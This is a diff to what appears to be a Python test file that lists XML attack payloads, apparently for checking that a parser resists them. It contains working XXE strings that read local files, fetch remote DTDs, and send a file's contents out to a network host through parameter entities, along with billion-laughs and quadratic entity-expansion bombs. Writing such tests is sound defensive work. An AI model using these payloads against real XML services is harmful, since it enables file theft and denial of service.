@@ -53,18 +53,18 @@ def laughs(depth, times):
     return f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]><a>&l{depth - 1};</a>'
 
 
+SENDER = """<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM '{net}/?%f;'>">
+%p;%s;]><a/>"""
+
 ATTACKS = {
     "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a>&x;</a>',
     "external entity from the net": '<!DOCTYPE a [<!ENTITY x SYSTEM "{net}/x">]><a>&x;</a>',
-    "external entity in a default": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}"><!ATTLIST a b CDATA "&x;">]><a/>',
+    "entity in a default": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}"><!ATTLIST a b CDATA "&x;">]><a/>',
     "external DTD": '<!DOCTYPE a SYSTEM "{file}"><a/>',
     "external DTD from the net": '<!DOCTYPE a SYSTEM "{net}/a.dtd"><a>&x;</a>',
     "public DTD": '<!DOCTYPE a PUBLIC "-//X//Y//EN" "{net}/a.dtd"><a/>',
     "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{net}/p.dtd">%p;]><a>&x;</a>',
-    "parameter entity that sends a file": (
-        '<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}">'
-        + "<!ENTITY % p \"<!ENTITY &#37; s SYSTEM '{net}/?%f;'>\">%p;%s;]><a/>"
-    ),
+    "parameter entity that sends a file": SENDER,
     "billion laughs": laughs(12, 10),
     "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a>{"&x;" * 50_000}</a>',
     "entity within itself": '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
